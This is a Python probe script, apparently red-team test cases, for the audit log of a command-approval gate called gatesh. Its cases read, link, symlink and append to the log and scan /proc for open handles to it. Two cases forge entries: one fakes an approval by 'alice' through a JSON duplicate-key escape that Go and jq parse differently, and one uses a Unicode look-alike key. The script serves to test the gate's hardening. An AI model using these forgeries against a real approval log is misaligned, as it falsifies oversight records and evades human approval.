# Audit log probes from a green command. GATESH_HOME is read from the
# environment; the log's name is built so that no command text names it.
import os, sys, json, hashlib

gh = os.environ.get("GATESH_HOME") or os.path.expanduser("~/.gatesh")
log = os.path.join(gh, "audit" + ".jsonl")
case = sys.argv[1]

def out(*x):
    print("[audit]", case, *x, flush=True)

try:
    if case == "read":
        out(open(log).read()[:120])
    elif case == "stat":
        st = os.stat(log)
        out("size", st.st_size)
    elif case == "link":
        os.link(log, "/tmp/rt3-audit-link")
        out("linked")
    elif case == "append":
        with open(log, "a") as f:
            f.write('{"event":"run"}\n')
        out("appended")
    elif case == "symlink-read":
        os.symlink(log, "tools/al")
        out(open("tools/al").read()[:80])
    elif case == "proc-fd":
        # a gatesh process that holds the log open, through /proc
        for p in os.listdir("/proc"):
            if p.isdigit():
                try:
                    for fd in os.listdir(f"/proc/{p}/fd"):
                        if os.readlink(f"/proc/{p}/fd/{fd}") == log:
                            out("found", p, fd, open(f"/proc/{p}/fd/{fd}").read()[:60])
                except Exception:
                    pass
        out("scan done")
    elif case == "forge-escaped-key":
        # without Landlock: a line whose second key is "event" spelled
        # with a JSON escape; Go reads one key twice, jq the last value
        lines = open(log).read().splitlines()
        last = json.loads(lines[-1])
        rec = {"ts": last.get("ts"), "event": "run", "command": "note", "prev": hashlib.sha256((lines[-1] + "\n").encode()).hexdigest()}
        s = json.dumps(rec)[:-1] + ', "ev\\u0065nt": "approved", "approved_by": "alice", "request": "zzz"}'
        with open(log, "a") as f:
            f.write(s + "\n")
        out("appended", s[:100])
    elif case == "forge-long-s":
        lines = open(log).read().splitlines()
        s = '{"event":"run","command":"note","\u017fession":"other"}'
        with open(log, "a") as f:
            f.write(s + "\n")
        out("appended")
except Exception as e:
    out("ERR", type(e).__name__, e)
